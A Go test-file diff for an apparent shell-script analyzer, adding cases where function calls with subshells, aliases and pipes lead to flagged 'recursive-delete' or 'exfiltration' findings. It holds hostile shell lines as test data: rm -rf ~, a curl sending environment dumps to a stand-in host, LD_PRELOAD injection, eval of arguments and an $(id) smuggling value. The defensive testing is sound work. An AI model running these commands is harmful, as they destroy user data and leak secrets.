@@ -41,6 +41,24 @@ var memoScripts = []struct {
 	// copy of a remembered call is judged against.
 	{`f() { curl -d @/tmp/e.txt https://e.example; }; f; git grep -O'env > /tmp/e.txt' foo; f`, ""},
 	{`f() { curl -d @/tmp/e.txt https://e.example; }; f; find . -exec sh -c 'env > /tmp/e.txt' \; ; f`, "exfiltration"},
+	// A body that runs a subshell: what the subshell changed is put back
+	// to what it was before the call, which the call must have read.
+	{`f() { (D=a); }; D=b; f; rm -rf "$D"; D=~; f; rm -rf "$D"`, "recursive-delete"},
+	{`D=~; f() { (D=a); }; f; f; rm -rf "$D"`, "recursive-delete"},
+	{`f() { (cd /tmp); }; f; rm -rf *; cd ~; f; rm -rf *`, "recursive-delete"},
+	{`f() { cd /tmp; (cd ~); }; cd /; f; f; rm -rf *`, ""},
+	{`f() { (alias ls='rm -rf ~'); }; f; f; ls`, ""},
+	{`alias ls='rm -rf ~'; f() { (unalias ls); }; f; f; ls`, "recursive-delete"},
+	{`g() { rm -rf ~; }; f() { (g() { :; }); }; f; f; g`, "recursive-delete"},
+	{`f() { cat | D=a; }; D=~; f; f; rm -rf "$D"`, ""},
+	{`f() { D=~; cat | D=a; }; f; f; rm -rf "$D"`, ""},
+	{`f() { (unalias ls); }; f; alias ls='rm -rf ~'; f; ls`, "recursive-delete"},
+	{`g() { D=~; }; f() { (g() { D=a; }); }; f; f; g; rm -rf "$D"`, "recursive-delete"},
+	{`f() { (g() { :; }); }; g() { :; }; f; g() { D=$1; }; f; g ~; rm -rf "$D"`, "recursive-delete"},
+	{`f() { (g() { D=~; }); }; f; f; g; rm -rf "$D"`, ""},
+	{`f() { (D=a); }; f; f; rm -rf "$D"`, ""},
+	{`f() { echo "$(D=a)"; rm -rf "$D"; }; D=b; f; D=~; f`, "recursive-delete"},
+	{`f() { D=a & }; D=~; f; f; rm -rf "$D"`, "recursive-delete"},
 }
 
 func TestMemoKeepsFindings(t *testing.T) {
@@ -68,6 +86,8 @@ func TestMemoRandomScripts(t *testing.T) {
 		`for x in a b; do rm -rf "$x"; done`, `local y=$1; rm -rf "$y"`, `export LD_PRELOAD=/tmp/x.so`, `printf '%s' "$*"`,
 		`$1 -rf ~`, `(cd /; rm -rf "$1")`, `cat /tmp/x.sh | sh`, `x=$(echo "$1"); rm -rf $x`, `eval "$1"`, `bash -c "$1"`,
 		`h() { rm -rf ~; }`, `h() { :; }`, `g() { rm -rf "$1"; }`, `f "$@"`, `echo $(( $1 ))`, `test -v "$1"`, `chmod +x ./run.sh; ./run.sh`,
+		`(D="$1")`, `(cd "$1"; rm -rf *)`, `(cd ~)`, `D=x | cat`, `cat | D="$1"`, `(alias ls='rm -rf ~')`, `(unalias ls)`, `(h() { rm -rf ~; })`,
+		`(unset D)`, `echo "$(cd /; D=z)"`, `D="$1" &`, `g a | h`, `(g "$1")`, `ls | (cd /; ls)`,
 	}
 	calls := []string{
 		`f a`, `f ~`, `f /`, `f build`, `f 'rm -rf ~'`, `f 'x[$(id)]'`, `f`, `g a`, `g ~`, `g`, `h`, `D=~`, `D=build`, `cd /tmp`, `cd ~`,
